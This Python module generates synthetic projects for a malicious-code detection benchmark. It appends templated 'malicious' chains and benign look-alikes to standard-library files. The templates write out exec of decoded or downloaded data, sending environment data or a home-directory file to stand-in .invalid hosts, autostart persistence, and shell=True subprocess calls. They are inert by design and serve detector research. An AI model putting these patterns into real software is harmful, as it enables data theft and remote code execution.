"""Synthetic projects: standard-library packages with injected, inert cross-file "malicious" chains [A04].

Benign base: 4-8 files of one standard-library package, read as text (never imported). Every project, benign or
malicious, receives look-alike decoys: single-file uses of the same APIs with constant inputs, one cross-file benign
chain (decode in one file, consumed by a harmless sink in another), and one chain slot: a malicious project gets
one behaviour chain split across 2-3 files there (decode -> exec; environment -> encode -> network; download
-> exec; chr-joined string -> eval; and, held out for testing, file -> network, download -> persistence,
hex -> process), a benign project the same template's mirror (same functions, files, tags and calls; its sinks
see only constants). Nothing here is ever executed: payloads decode to comments, hosts use the
reserved ``.invalid`` top-level domain, and projects live only in memory as ``{path: source}``.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass, field
from functools import lru_cache
from typing import Sequence

import numpy as np

from .codegraph import iter_stdlib_files

PACKAGES = ("email", "http", "json", "logging", "urllib", "xml/dom", "xml/etree", "importlib", "concurrent/futures",
            "unittest", "asyncio", "multiprocessing", "xmlrpc", "sqlite3", "wsgiref", "dbm", "html", "curses",
            "encodings", "tomllib", "zoneinfo", "ctypes", "lib2to3", "pydoc_data", "idlelib", "tkinter",
            "venv", "ensurepip", "collections", "re")
MAX_FILE_BYTES = 60_000
VERBS = ("load", "sync", "fetch", "prepare", "apply", "collect", "report", "refresh", "check", "update", "build",
         "resolve", "encode", "emit")
NOUNS = ("config", "state", "cache", "payload", "settings", "token", "data", "meta", "record", "profile", "blob",
         "message")
INERT = "# inert placeholder: this text is never executed\n"


@dataclass
class Project:
    files: dict[str, str]
    label: int                              # 1 malicious, 0 benign
    truth_functions: list[str] = field(default_factory=list)   # qualified names of the injected chain
    truth_files: list[str] = field(default_factory=list)
    decoy_functions: list[str] = field(default_factory=list)
    kind: str = "benign"


@lru_cache(maxsize=1)
def _package_files() -> dict[str, list[tuple[str, str]]]:
    """package -> [(relative path, source)] of its small-enough files (read once, as text)."""
    out: dict[str, list[tuple[str, str]]] = {}
    for rel, path in iter_stdlib_files():
        pkg = next((p for p in PACKAGES if rel.startswith(p + "/")), None)
        if pkg is None or "/test" in rel or rel.count("/") > pkg.count("/") + 1:
            continue
        if path.stat().st_size > MAX_FILE_BYTES:
            continue
        out.setdefault(pkg, []).append((rel, path.read_text(encoding="utf-8", errors="replace")))
    return {k: v for k, v in out.items() if len(v) >= 3}


# helper functions

def _name(rng: np.random.Generator, used: set[str]) -> str:
    while True:
        n = f"_{VERBS[rng.integers(len(VERBS))]}_{NOUNS[rng.integers(len(NOUNS))]}_{int(rng.integers(100))}"
        if n not in used:
            used.add(n)
            return n


def _mod(path: str) -> str:
    p = path[:-3].replace("/", ".")
    return p[:-9] if p.endswith(".__init__") else p


def _host(rng: np.random.Generator) -> str:
    return f"{NOUNS[rng.integers(len(NOUNS))]}{int(rng.integers(100))}.invalid"


def _b64() -> str:
    return base64.b64encode(INERT.encode()).decode()


def _codes() -> str:
    return repr([ord(c) for c in "0  # inert"])


# templates. A malicious template returns [(file slot, code)], the chain's function names and its kind; its
# *mirror* (same function count, same files, the same behaviour tags and the same call edges) is what every
# benign project gets in its place, so function counts, names, tags and call structure do not tell the classes
# apart. What differs is the data flow: in the malicious chain the source's result reaches the sink (the graph's
# ``flow`` edges); in the mirror the sink only ever sees constants.

def _hex() -> str:
    return INERT.encode().hex()


def _chain_decode_exec(rng, names, mods, mirror=False):
    f1, f2 = _name(rng, names), _name(rng, names)
    src = f"def {f1}():\n    import base64\n    return base64.b64decode({_b64()!r}).decode()\n"
    use = (f"def {f2}():\n    from {mods[0]} import {f1}\n    code = {f1}()\n"
           f"    exec(compile(code, '<{f2}>', 'exec'), {{}})\n") if not mirror else (
          f"def {f2}():\n    from {mods[0]} import {f1}\n    text = {f1}()\n    ns = {{}}\n"
          f"    exec(compile('value = 1 + 1', '<{f2}>', 'exec'), ns)\n    return len(text) + ns['value']\n")
    return [(0, src), (1, use)], [f1, f2], "decode->exec"


def _chain_exfil(rng, names, mods, mirror=False):
    f1, f2, f3 = _name(rng, names), _name(rng, names), _name(rng, names)
    a = (f"def {f1}():\n    import os, socket\n    return {{'u': os.environ.get('USER', ''), "
         f"'h': socket.gethostname()}}\n")
    b = f"def {f2}(d):\n    import base64, json\n    return base64.b64encode(json.dumps(d).encode())\n"
    c = (f"def {f3}():\n    import urllib.request\n    from {mods[0]} import {f1}\n"
         f"    from {mods[1]} import {f2}\n    body = {f2}({f1}())\n"
         f"    return urllib.request.urlopen('http://{_host(rng)}/c', data=body)\n") if not mirror else (
        f"def {f3}():\n    import urllib.request\n    from {mods[0]} import {f1}\n"
        f"    from {mods[1]} import {f2}\n    body = {f2}({{'ping': 1}})\n    seen = len({f1}())\n"
        f"    return urllib.request.urlopen('http://{_host(rng)}/health', data=body), seen\n")
    return [(0, a), (1, b), (2, c)], [f1, f2, f3], "env->network"


def _chain_download_exec(rng, names, mods, mirror=False):
    f1, f2 = _name(rng, names), _name(rng, names)
    src = f"def {f1}():\n    import urllib.request\n    return urllib.request.urlopen('http://{_host(rng)}/p').read()\n"
    use = f"def {f2}():\n    from {mods[0]} import {f1}\n    exec({f1}())\n" if not mirror else (
          f"def {f2}():\n    import json\n    from {mods[0]} import {f1}\n    blob = {f1}()\n"
          f"    exec('ready = True', {{}})\n    return json.loads(blob)\n")
    return [(0, src), (1, use)], [f1, f2], "download->exec"


def _chain_chr_eval(rng, names, mods, mirror=False):
    f1, f2 = _name(rng, names), _name(rng, names)
    src = f"def {f1}():\n    return ''.join(chr(c) for c in {_codes()})\n"
    use = f"def {f2}():\n    from {mods[0]} import {f1}\n    return eval({f1}())\n" if not mirror else (
          f"def {f2}():\n    from {mods[0]} import {f1}\n    label = {f1}()\n"
          f"    return eval('1 + 1', {{'__builtins__': {{}}}}), label.strip()\n")
    return [(0, src), (1, use)], [f1, f2], "chr->eval"


def _chain_file_network(rng, names, mods, mirror=False):
    f1, f2 = _name(rng, names), _name(rng, names)
    src = (f"def {f1}():\n    import os, pathlib\n"
           f"    return pathlib.Path(os.path.expanduser('~/.placeholder_{f1[1:]}')).read_text()\n")
    use = (f"def {f2}():\n    import urllib.request\n    from {mods[0]} import {f1}\n    body = {f1}().encode()\n"
           f"    return urllib.request.urlopen('http://{_host(rng)}/u', data=body)\n") if not mirror else (
          f"def {f2}():\n    import urllib.request\n    from {mods[0]} import {f1}\n    size = len({f1}())\n"
          f"    return urllib.request.urlopen('http://{_host(rng)}/version.json').read(), size\n")
    return [(0, src), (1, use)], [f1, f2], "file->network"


def _chain_download_persist(rng, names, mods, mirror=False):
    f1, f2 = _name(rng, names), _name(rng, names)
    src = f"def {f1}():\n    import urllib.request\n    return urllib.request.urlopen('http://{_host(rng)}/s').read()\n"
    use = (f"def {f2}():\n    import os, pathlib\n    from {mods[0]} import {f1}\n    script = {f1}().decode()\n"
           f"    target = pathlib.Path(os.path.expanduser('~/.config/autostart/{f2[1:]}.desktop'))\n"
           f"    target.write_text(script)\n") if not mirror else (
          f"def {f2}():\n    import json, os, pathlib\n    from {mods[0]} import {f1}\n    meta = json.loads({f1}())\n"
          f"    target = pathlib.Path(os.path.expanduser('~/.cache/{f2[1:]}.txt'))\n"
          f"    target.write_text('ok')\n    return meta\n")
    return [(0, src), (1, use)], [f1, f2], "download->persistence"


def _chain_hex_process(rng, names, mods, mirror=False):
    f1, f2 = _name(rng, names), _name(rng, names)
    src = f"def {f1}():\n    return bytes.fromhex({_hex()!r}).decode()\n"
    use = (f"def {f2}():\n    import subprocess\n    from {mods[0]} import {f1}\n    cmd = {f1}()\n"
           f"    return subprocess.run(cmd, shell=True, check=False)\n") if not mirror else (
          f"def {f2}():\n    import subprocess\n    from {mods[0]} import {f1}\n    note = {f1}()\n"
          f"    return subprocess.run(['echo', 'ok'], check=False), note.strip()\n")
    return [(0, src), (1, use)], [f1, f2], "hex->process"


CHAINS = {"decode->exec": _chain_decode_exec, "env->network": _chain_exfil, "download->exec": _chain_download_exec,
          "chr->eval": _chain_chr_eval, "file->network": _chain_file_network,
          "download->persistence": _chain_download_persist, "hex->process": _chain_hex_process}
#: the templates a reproduction trains on, and the ones it holds out for its test projects
SEEN_TEMPLATES = ("decode->exec", "env->network", "download->exec", "chr->eval")
HELD_OUT_TEMPLATES = ("file->network", "download->persistence", "hex->process")


def _benign_chain(rng, names, mods):
    """Cross-file look-alike: decode / chr-join / download in one file, consumed harmlessly in another."""
    f1, f2 = _name(rng, names), _name(rng, names)
    k = int(rng.integers(3))
    if k == 0:
        src = f"def {f1}():\n    import base64\n    return base64.b64decode({_b64()!r}).decode()\n"
        use = f"def {f2}():\n    from {mods[0]} import {f1}\n    text = {f1}()\n    return text.splitlines()\n"
    elif k == 1:
        src = f"def {f1}():\n    return ''.join(chr(c) for c in {_codes()})\n"
        use = f"def {f2}():\n    from {mods[0]} import {f1}\n    return {f1}().strip().upper()\n"
    else:
        src = (f"def {f1}():\n    import urllib.request\n"
               f"    return urllib.request.urlopen('http://{_host(rng)}/v.json').read()\n")
        use = f"def {f2}():\n    import json\n    from {mods[0]} import {f1}\n    return json.loads({f1}())\n"
    return [(0, src), (1, use)], [f1, f2]


def _decoy(rng, names) -> tuple[str, str]:
    f = _name(rng, names)
    k = int(rng.integers(8))
    code = (
        f"def {f}():\n    import base64\n    return len(base64.b64decode({_b64()!r}))\n",
        f"def {f}(expr='1 + 1'):\n    return eval(compile(expr, '<{f}>', 'eval'), {{'__builtins__': {{}}}})\n",
        f"def {f}():\n    import urllib.request, json\n"
        f"    with urllib.request.urlopen('http://{_host(rng)}/v.json') as r:\n        return json.loads(r.read())\n",
        f"def {f}():\n    import os\n    return os.environ.get('{f.upper()[1:]}_DEBUG', '0') == '1'\n",
        f"def {f}(cmd=('echo', 'ok')):\n    import subprocess\n    return subprocess.run(list(cmd), check=False)\n",
        f"def {f}():\n    import socket\n    return socket.gethostname().split('.')[0]\n",
        f"def {f}(ns=None):\n    ns = {{}} if ns is None else ns\n    exec('value = 1 + 1', ns)\n    return ns['value']\n",
        f"def {f}(d=None):\n    import base64, json\n    return base64.b64encode(json.dumps(d or {{}}).encode())\n",
    )[k]
    return code, f


# main generator

def make_project(rng: np.random.Generator, malicious: bool, *, n_files: tuple[int, int] = (4, 8),
                 n_decoys: tuple[int, int] = (3, 6), templates: Sequence[str] | None = None) -> Project:
    """One synthetic project (in memory) [A04].

    Every project gets the same kinds and numbers of injected code: ``n_decoys`` single-file look-alikes, one
    cross-file benign chain, and one *chain slot* filled from ``templates`` (default: all of ``CHAINS``). In a
    malicious project the slot holds the template's malicious chain; in a benign one it holds the template's
    mirror (same function count, files, behaviour tags and call edges; no source-to-sink data flow). So file
    count, function count, injected-name style and behaviour tags carry no label information; only the data
    flow does. ``kind`` records the template (``"benign/<template>"`` for a mirror).
    """
    for name, (lo, hi) in (("n_files", n_files), ("n_decoys", n_decoys)):
        if not (isinstance(lo, int) and isinstance(hi, int) and 1 <= lo <= hi):
            raise ValueError(f"{name} must be a (low, high) pair of ints with 1 <= low <= high, got {(lo, hi)!r}")
    tmpl = tuple(CHAINS) if templates is None else tuple(templates)
    if not tmpl or any(t not in CHAINS for t in tmpl):
        raise ValueError(f"templates must be a non-empty subset of {sorted(CHAINS)}, got {templates!r}")
    pkgs = _package_files()
    names = sorted(pkgs)
    pkg = names[int(rng.integers(len(names)))]
    pool = pkgs[pkg]
    lo = min(n_files[0], len(pool))
    k = int(rng.integers(lo, max(lo, min(n_files[1], len(pool))) + 1))
    chosen = [pool[i] for i in sorted(rng.choice(len(pool), k, replace=False))]
    files = {rel: src for rel, src in chosen}
    paths = [rel for rel, _ in chosen]
    used: set[str] = set()
    appended: dict[str, list[str]] = {p: [] for p in paths}
    decoys = []
    for _ in range(int(rng.integers(n_decoys[0], n_decoys[1] + 1))):
        code, f = _decoy(rng, used)
        p = paths[int(rng.integers(len(paths)))]
        appended[p].append(code)
        decoys.append(f"{p}::{f}")
    slots = [paths[i] for i in rng.permutation(len(paths))]
    bparts, bnames = _benign_chain(rng, used, [_mod(slots[0])])
    for slot, code in bparts:
        appended[slots[slot % len(slots)]].append(code)
    decoys += [f"{slots[i % len(slots)]}::{n}" for i, n in enumerate(bnames)]
    slots = [paths[i] for i in rng.permutation(len(paths))]
    name = tmpl[int(rng.integers(len(tmpl)))]
    parts, fnames, kind = CHAINS[name](rng, used, [_mod(s) for s in slots], mirror=not malicious)
    for slot, code in parts:
        appended[slots[slot]].append(code)
    placed = [f"{slots[i]}::{n}" for i, n in enumerate(fnames)]
    truth, tfiles = [], []
    if malicious:
        truth, tfiles = placed, sorted({slots[i] for i in range(len(fnames))})
    else:
        decoys += placed
        kind = f"benign/{kind}"
    for p, codes in appended.items():
        if codes:
            files[p] = files[p].rstrip("\n") + "\n\n\n" + "\n\n".join(codes)
    return Project(files, int(malicious), truth, tfiles, decoys, kind)


def make_dataset(n: int, seed: int | Sequence[int], *, templates: Sequence[str] | None = None) -> list[Project]:
    """``n`` projects, half malicious, in a seeded random order; chain slots drawn from ``templates``."""
    if n < 4:
        raise ValueError(f"need at least 4 projects, got {n}")
    rng = np.random.default_rng(seed)
    labels = rng.permutation(np.arange(n) % 2)
    return [make_project(rng, bool(y), templates=templates) for y in labels]
